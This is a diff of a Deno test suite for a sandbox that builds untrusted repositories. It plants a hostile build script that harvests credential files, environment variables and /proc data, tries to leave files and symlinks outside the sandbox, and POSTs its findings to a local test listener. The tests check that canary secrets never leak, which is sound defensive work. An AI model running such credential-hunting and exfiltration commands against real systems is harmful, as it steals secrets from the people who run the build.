@@ -1,11 +1,12 @@
 /** A rehearsal builds what it is given, shut in; what it answers, and what a hostile repository gets out of it. */
 import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
 import { dirname, fromFileUrl, join } from "@std/path";
-import { z } from "zod";
+import { rehearsalSchema } from "../../agents/tools/rehearsal.ts";
 import type { Rehearsal } from "../../drydock/rehearse.ts";
 import { toolEnvironment } from "../../process/environment.ts";
 import { run } from "../../process/run.ts";
 import { hasCell } from "../helpers/cell.ts";
+import { rehearseGiven } from "../helpers/rehearse.ts";
 import type { Given } from "../helpers/rehearse.ts";
 import { processesOf } from "../scenarios/leftovers.ts";
 import { until } from "./harbour.ts";
@@ -13,13 +14,28 @@ import { until } from "./harbour.ts";
 const ignore = !await hasCell();
 const NOBODY = "65534";
 const isRoot = Deno.uid() === 0;
-const rehearsalSchema = z.object({
-  kind: z.string(),
-  why: z.string().optional(),
-  log: z.string().optional(),
-});
 
-/** One folder with a home, a data folder and a checkout in it, and a process in which a rehearsal runs. */
+/** The helper as one file, which another user can read as well. */
+let bundled: Promise<string> | undefined;
+const bundle = () =>
+  bundled ??= succeed(
+    [
+      ...[Deno.execPath(), "bundle", "-q", "--config"],
+      ...["../../deno.json", "../helpers/rehearse.ts"].map((path) =>
+        fromFileUrl(new URL(path, import.meta.url))
+      ),
+    ] as [string, ...string[]], // It begins with the program.
+    { HOME: Deno.env.get("HOME") ?? "/" },
+  );
+
+interface Wanted {
+  buildCommand: string;
+  runtime?: string;
+  timeoutMs?: number;
+  bytesMax?: number;
+}
+
+/** One folder with a home, a data folder and a checkout in it. */
 class Ground implements AsyncDisposable {
   private constructor(readonly folder: string, readonly node: string) {}
 
@@ -28,11 +44,6 @@ class Ground implements AsyncDisposable {
     for (const name of ["home", "data/scratch", "checkout", "cwd"]) {
       await Deno.mkdir(join(folder, name), { recursive: true });
     }
-    // One file, which another user can read as well.
-    const config = fromFileUrl(new URL("../../deno.json", import.meta.url));
-    const entry = fromFileUrl(new URL("../helpers/rehearse.ts", import.meta.url));
-    const bundle = [Deno.execPath(), "bundle", "-q", "--config", config, "-o", join(folder, "rehearse.js")];
-    await succeed([bundle[0] ?? "", ...bundle.slice(1), entry], { HOME: Deno.env.get("HOME") ?? folder });
     return new Ground(folder, (await succeed(["node", "--version"])).trim().slice(1));
   }
 
@@ -47,30 +58,43 @@ class Ground implements AsyncDisposable {
     }
   }
 
-  /** @param launch what starts the process @param env on top of what it needs */
-  async rehearse(
-    given: { buildCommand: string; runtime?: string; timeoutMs?: number; bytesMax?: number },
-    { launch = [], env = {} }: { launch?: string[]; env?: Record<string, string> } = {},
-  ): Promise<z.infer<typeof rehearsalSchema>> {
-    const { buildCommand, runtime = "node", ...limits } = given;
-    const request = { directory: this.path("checkout"), edits: [], runtime, buildCommand, node: this.node };
-    const whole: Given = {
-      request,
+  async rehearse(wanted: Wanted): Promise<Rehearsal> {
+    const result = await rehearseGiven(this.#given(wanted));
+    await this.#assertClean();
+    return result;
+  }
+
+  /** In a process of its own. @param launch what starts it @param env on top of what it needs */
+  async rehearseApart(
+    wanted: Wanted,
+    { launch, env = {} }: { launch: [string, ...string[]]; env?: Record<string, string> },
+  ): Promise<Rehearsal> {
+    const script = this.path("rehearse.js");
+    if (await Deno.stat(script).catch(() => null) === null) await Deno.writeTextFile(script, await bundle());
+    const deno = [Deno.execPath(), "run", "-A", "--no-config", "--no-lock", script];
+    const printed = await succeed(
+      [...launch, ...deno, JSON.stringify(this.#given(wanted))],
+      { HOME: this.path("home"), DENO_DIR: this.path("deno"), ...env },
+      this.path("cwd"),
+    );
+    await this.#assertClean();
+    return rehearsalSchema.parse(JSON.parse(printed));
+  }
+
+  #given({ buildCommand, runtime = "node", ...limits }: Wanted): Given {
+    return {
+      request: { directory: this.path("checkout"), edits: [], runtime, buildCommand, node: this.node },
       scratchRoot: this.path("data/scratch"),
       hidden: [this.path("data")],
       timeoutMs: 60_000,
       ...limits,
     };
-    const deno = [Deno.execPath(), "run", "-A", "--no-config", "--no-lock", this.path("rehearse.js")];
-    const printed = await succeed(
-      [launch[0] ?? "env", ...launch.slice(1), ...deno, JSON.stringify(whole)],
-      { HOME: this.path("home"), DENO_DIR: this.path("deno"), ...env },
-      this.path("cwd"),
-    );
+  }
+
+  async #assertClean(): Promise<void> {
     const left = await Array.fromAsync(Deno.readDir(this.path("data/scratch")), ({ name }) => name);
     assertEquals(left.filter((name) => name.startsWith("rehearsal-")), []);
     await until(async () => (await processesOf(this.folder)).length === 0 ? true : undefined);
-    return rehearsalSchema.parse(JSON.parse(printed));
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
@@ -99,14 +123,10 @@ Deno.test({
   async fn() {
     await using ground = await Ground.open();
     await ground.write({ "checkout/index.js": "" });
-    const kinds = async (given: Parameters<Ground["rehearse"]>[0]) => {
-      const { kind, why = "", log = "" } = await ground.rehearse(given);
-      return [kind, why === "" ? log : why] as const;
-    };
-    assertEquals((await kinds({ buildCommand: "test -f index.js" }))[0], "built");
-    const [kind, log] = await kinds({ buildCommand: "echo it is broken; exit 3" });
-    assertEquals(kind, "failed" satisfies Rehearsal["kind"]);
-    assertStringIncludes(log, "it is broken\n==> Exited with status 3");
+    assertEquals((await ground.rehearse({ buildCommand: "test -f index.js" })).kind, "built");
+    const failed = await ground.rehearse({ buildCommand: "echo it is broken; exit 3" });
+    assert(failed.kind === "failed", JSON.stringify(failed));
+    assertStringIncludes(failed.log, "it is broken\n==> Exited with status 3");
     const unknowns = [
       [
         { buildCommand: "echo getaddrinfo ENOTFOUND registry; exit 1" },
@@ -121,10 +141,10 @@ Deno.test({
       ],
       [{ buildCommand: "exit 1", runtime: "docker" }, /runtime docker are not rehearsed/],
     ] as const;
-    for (const [given, why] of unknowns) {
-      const [unknown, said] = await kinds(given);
-      assertEquals(unknown, "unknown", said);
-      assertMatch(said, why);
+    for (const [wanted, why] of unknowns) {
+      const result = await ground.rehearse(wanted);
+      assert(result.kind === "unknown", JSON.stringify(result));
+      assertMatch(result.why, why);
     }
   },
 });
@@ -136,10 +156,10 @@ Deno.test({
     await using ground = await Ground.open();
     const marker = ground.path("marker");
     // Root of a namespace that knows no other user.
-    const launch = ["unshare", "--user", "--map-root-user"];
-    const { kind, why } = await ground.rehearse({ buildCommand: `touch ${marker}` }, { launch });
-    assertEquals(kind, "unknown");
-    assertMatch(why ?? "", /^this machine lets no namespaces be made: ./);
+    const launch: [string, ...string[]] = ["unshare", "--user", "--map-root-user"];
+    const result = await ground.rehearseApart({ buildCommand: `touch ${marker}` }, { launch });
+    assert(result.kind === "unknown", JSON.stringify(result));
+    assertMatch(result.why, /^this machine lets no namespaces be made: ./);
     assertEquals(await Deno.stat(marker).catch(() => null), null);
   },
 });
@@ -171,6 +191,7 @@ for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
           "home/.aws/credentials",
           "data/evenkeel.db",
           "data/scratch/beside",
+          "data/tools/token",
           "cwd/.env",
           "checkout.git/config",
           "checkout/.git/config",
@@ -184,6 +205,8 @@ for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
         SSH_AUTH_SOCK: canary("SSH_AUTH_SOCK"),
         PIP_EXTRA_INDEX_URL: `http://me:${canary("PIP_EXTRA_INDEX_URL")}@localhost/`,
         npm_config_userconfig: ground.path("home/.npmrc"),
+        // Folders with tools in them are shown; these hold more than tools.
+        PATH: `${ground.path("home/bin")}:${ground.path("data/tools/bin")}:${Deno.env.get("PATH")}`,
       };
       const canaries = [...Object.values(secrets), ...Object.keys(env).slice(0, 5).map(canary)];
       const places = Object.keys(secrets).map((path) => ground.path(path)).join(" ");
@@ -194,11 +217,11 @@ for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
           "/evenkeel-left",
           "/dev/shm/evenkeel-left",
         ]);
-      await ground.write(secrets);
+      await ground.write({ ...secrets, "home/bin/yarn": "", "data/tools/bin/yarn": "" });
       await ground.write({
         // What all of them run: looks everywhere, tells what it found, and tries to leave something behind.
         "checkout/hunt.sh": `
-{ env; cat ${places}
+{ env; cat ${places} .git/config .env
   for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $file; done
   for root in /proc/[0-9]*/root /proc/[0-9]*/cwd; do (cd $root && cat ${
           Object.keys(secrets).map((path) => `.${ground.path(path)} ../../${path}`).join(" ")
@@ -207,12 +230,12 @@ for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
   git config --show-origin --get-regexp .
   ls -a ${ground.folder} ${ground.path("home")} ${ground.path("data")} /root /home
   test -w /proc/sys/kernel/core_pattern && echo CORE-PATTERN
-  grep CapEff /proc/self/status
+  grep -E "Cap(Eff|Bnd)|NoNewPrivs" /proc/self/status
   echo HUNTED
 } > found-$1 2>/dev/null
 if [ $1 != free ]; then
 for place in ${outside.join(" ")}; do echo left > $place; ln -s /etc/passwd $place-link; done 2>/dev/null
-(setsid sh -c 'sleep 2; echo late > ${ground.path("late")}' &)
+(setsid sleep 300 > /dev/null 2>&1 &)
 fi
 node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
   method: "POST", body: require("node:fs").readFileSync("found-'$1'") })'
@@ -226,7 +249,11 @@ node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
         "checkout/setup.py": 'import os\nos.system("sh hunt.sh setup.py")\n',
         "checkout/build.sh": "sh hunt.sh build; mkdir shut && touch shut/file && chmod 0 shut\n",
       });
-      const asOther = way === "another user"
+      await using tidy = new AsyncDisposableStack();
+      for (const place of outside.flatMap((path) => [path, `${path}-link`])) {
+        tidy.defer(() => Deno.remove(place).catch(() => {}));
+      }
+      const asOther: [string, ...string[]] = way === "another user"
         ? ["setpriv", "--reuid", NOBODY, "--regid", NOBODY, "--clear-groups"]
         : ["env"];
       if (way === "another user") await succeed(["chown", "-R", `${NOBODY}:${NOBODY}`, ground.folder]);
@@ -239,8 +266,8 @@ node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
       ];
       const buildCommand =
         "npm install; sh build.sh; if command -v make; then make; fi; if command -v python3; then python3 setup.py; fi";
-      const result = await ground.rehearse({ buildCommand }, { launch: [...asOther, ...open], env });
-      assertEquals(result.kind, "built", result.why);
+      const result = await ground.rehearseApart({ buildCommand }, { launch: [...asOther, ...open], env });
+      assertEquals(result.kind, "built", JSON.stringify(result));
 
       for (const name of ["preinstall", "postinstall", "build"]) {
         assertStringIncludes(heard.get(name) ?? "", "HUNTED", name);
@@ -248,9 +275,9 @@ node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
       for (const [name, found] of heard) {
         assertEquals(canaries.filter((one) => found.includes(one)), [], name);
         assertEquals(found.includes("CORE-PATTERN"), false, name);
-        assertMatch(found, /CapEff:\t0{16}/);
+        assertMatch(found, /CapEff:\t0{16}\nCapBnd:\t0{16}\nNoNewPrivs:\t1\n/);
       }
-      for (const place of [...outside, ...outside.map((path) => `${path}-link`), ground.path("late")]) {
+      for (const place of [...outside, ...outside.map((path) => `${path}-link`)]) {
         assertEquals(await Deno.lstat(place).catch(() => null), null, place);
       }
       // The hunter knows its trade: where nothing holds it, it finds what was planted.
